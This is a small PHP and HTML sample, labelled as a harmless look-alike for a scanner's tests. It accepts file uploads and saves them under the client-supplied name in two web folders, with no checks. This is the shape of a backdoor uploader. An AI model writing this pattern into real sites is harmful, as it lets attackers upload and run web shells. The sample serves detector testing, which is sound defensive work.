<form enctype="multipart/form-data" method="post"><input type="file" name="f"></form>
<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
if (isset($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . $_FILES['f']['name']);
}
if (isset($_FILES['g'])) {
    copy($_FILES['g']['tmp_name'], 'up2/' . $_FILES['g']['name']);
}
